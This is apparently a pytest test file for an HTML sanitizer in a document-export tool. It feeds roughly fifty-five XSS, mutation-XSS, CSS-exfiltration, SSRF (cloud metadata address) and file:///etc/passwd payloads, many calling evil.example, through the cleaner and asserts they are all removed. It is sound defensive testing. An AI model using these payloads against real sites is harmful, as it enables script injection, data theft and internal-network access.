"""Attacks on the printed page, and the words around them."""

from __future__ import annotations

import re

import pytest
import tinyhtml5

from exports.content.clean import clean
from exports.content.sanitize import CLASSES, TAGS
from exports.document import Article
from tests.builders import SITE, a_page, a_tree

ATTACKS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="\\\\server\\share">x</a>',
    '<a href="ms-word:ofe|u|https://evil.example/x">x</a>',
    '<a href="https://user:pass@evil.example/">x</a>',
    '<a href="https://acme.atlassian.net@evil.example/">x</a>',
    '<a href="xpress:p65538">x</a>',
    '<a href="XPRESS:p65538">x</a>',
    '<a href="&#120;press:p65538">x</a>',
    '<a href="xpress-image:att1">x</a>',
    '<img src="xpress-image:att1">',
    '<img src="data:image/svg+xml,<svg/>">',
    '<img src="file:///etc/passwd">',
    '<img src="http://169.254.169.254/latest/meta-data">',
    "<img src=x onerror=alert(1)>",
    '<p style="background: url(http://evil.example/x)">x</p>',
    '<p style="background-color: url(http://evil.example/x)">x</p>',
    '<p style="width: 1e9px; height: 99999px; position: fixed; top: 0">x</p>',
    '<p style="color: var(--x, url(http://evil.example))">x</p>',
    '<p style="color: red\\3b background: url(x)">x</p>',
    '<p style="color:red;} @import url(http://evil.example);">x</p>',
    '<p style="content: attr(x); string-set: a b; anchor: x; link: y">x</p>',
    '<p style="font-size: 900pt; line-height: 900; letter-spacing: 99px">x</p>',
    "<style>@import 'http://evil.example/x.css'; p { color: red }</style>",
    '<style>[data-colorid=a]{color:url(http://evil.example)}</style><i data-colorid="a">x</i>',
    '<link rel="attachment" href="file:///etc/passwd">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<a rel="attachment" href="https://example.com/">x</a>',
    '<object data="file:///etc/passwd"></object><embed src="file:///etc/passwd">',
    '<iframe src="file:///etc/passwd"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<base href="http://evil.example/">',
    '<svg><image href="file:///etc/passwd"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<form action="http://evil.example"><input name="a"></form>',
    '<script>alert(1)</script><script src="http://evil.example/x.js"></script>',
    '<script class="brush: js"><![CDATA[</pre><script>alert(1)]]></script>',
    '<div class="xp-panel xp-warning article-head contents-entry">x</div>',
    '<div class="xp-\u200bpanel XP-panel">x</div>',
    '<p id="cover">x</p><p id="p65538">x</p>',
    '<td background="http://evil.example/x.png" bgcolor="red">x</td>',
    '<body onload="alert(1)" background="http://evil.example">x</body>',
    '<input type="image" src="http://evil.example/x.png">',
    '<video poster="http://evil.example/x.png" src="http://evil.example/x.mp4"></video>',
    '<p dir="rtl\u202e" lang="x" onclick="alert(1)">x</p>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<p title="--><img src=x onerror=alert(1)>">x</p>',
]

STYLE = re.compile(
    r"(?:(?:color|background-color|border-color):#[0-9a-f]{6}"
    r"|(?:width):\d+(?:\.\d+)?(?:px|pt|mm|%)|[a-z-]+:[a-z-]+)"
)


def cleaned(html: str) -> Article:
    return clean(a_page(html), a_tree("65537 Guide", "  65538 Install"), SITE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_gets_past_the_list(attack: str):
    article = cleaned(f"<p>before</p>{attack}<p>after</p>")

    keys = {it.key for it in (*article.images, *article.drawings)}
    tree = tinyhtml5.parse(f"<!doctype html><body>{article.html}", namespace_html_elements=False)
    body = next(tree.iter("body"))
    for element in list(body.iter())[1:]:
        assert element.tag in TAGS
        assert set(element.attrib) <= {
            *("id", "style", "dir", "class", "href", "src", "alt", "colspan", "rowspan", "scope"),
            "start",
        }
        assert set(element.get("class", "").split()) <= CLASSES
        assert element.get("id", "p65537-").startswith("p65537-")
        assert re.match(r"(?:https?://|mailto:|tel:|xpress:p)", element.get("href", "tel:"))
        assert "@" not in element.get("href", "")
        assert element.tag != "img" or element.get("src", "").removeprefix("xpress-image:") in keys
        for declaration in filter(None, element.get("style", "").split(";")):
            assert STYLE.fullmatch(declaration)
    words = "".join(body.itertext())
    assert words.startswith("before")
    assert "after" in words


def test_a_link_of_an_author_cannot_use_our_scheme():
    assert "xpress:" not in cleaned('<a href="xpress:p65538">x</a>').html


def test_an_image_of_an_author_cannot_use_our_scheme():
    assert "xpress-image:" not in cleaned('<img src="xpress-image:att1">').html


def test_an_author_cannot_use_our_classes():
    html = '<p class="xp-error">Printed by the product?</p>'

    assert cleaned(html).html == "<p>Printed by the product?</p>"


def test_an_unclosed_element_ends_with_its_page():
    html = cleaned("<table><tr><td><div><ul><li>open").html

    assert html.count("<td") == html.count("</td>")
    assert html.endswith("</table>")


def test_an_endless_word_gets_places_to_break():
    html = cleaned("<p>" + "w" * 5_000 + "</p>").html

    assert max(map(len, re.split("\u200b", html))) <= 500


def test_stacked_accents_are_taken_off():
    html = cleaned("<p>a" + "\u0301" * 500 + "b</p>").html

    assert html.count("\u0301") <= 8


def test_overrides_of_direction_are_taken_out():
    assert "\u202e" not in cleaned("<p>invoice\u202efdp.exe</p>").html


def test_a_paragraph_with_thousands_of_marks_is_split():
    html = cleaned("<p>" + "<b>x</b> y " * 20_000 + "</p>").html

    assert html.count("<p>") > 10
    assert html.count("<strong>x</strong>") == 20_000


def test_a_cell_cannot_span_more_than_there_is():
    html = cleaned('<table><tr><td rowspan="5000">a</td><td>b</td></tr><tr><td>c</td></tr></table>')

    assert 'rowspan="2"' in html.html


def test_a_table_of_hundreds_of_columns_is_taken_apart_and_says_so():
    article = cleaned("<table><tr>" + "<td>cell</td>" * 500 + "</tr></table>")

    assert article.html.count("cell") == 500 + 500  # words, and our own class
    assert "<table" not in article.html
    assert [note.code for note in article.notes] == ["table_taken_apart"]
